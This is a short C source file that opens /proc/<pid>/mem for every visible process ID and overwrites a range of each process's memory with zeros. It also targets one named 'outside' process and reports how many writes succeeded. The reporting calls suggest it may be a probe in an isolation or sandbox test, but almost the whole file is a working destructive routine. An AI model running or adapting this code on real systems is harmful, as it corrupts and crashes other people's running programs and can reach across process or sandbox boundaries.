// SPDX-License-Identifier: MIT
// Writes over the memory of every process it can see, and of one outside whose number it knows.
#include "attack.h"

static int write_over(pid_t pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  const int fd = open(path, O_RDWR);
  if (fd < 0) return -1;
  char junk[4096] = {0};
  for (off_t at = 0x400000; at < 0x800000; at += (off_t)sizeof junk) (void)!pwrite(fd, junk, sizeof junk, at);
  close(fd);
  return 0;
}

static void attack(void) {
  long done = 0;
  for (pid_t pid = 1; pid < 4096; ++pid) {
    if (pid != getpid() && write_over(pid) == 0) ++done;
  }
  told_of("all that can be seen", done);
  told("outside", write_over(outside_process));
}
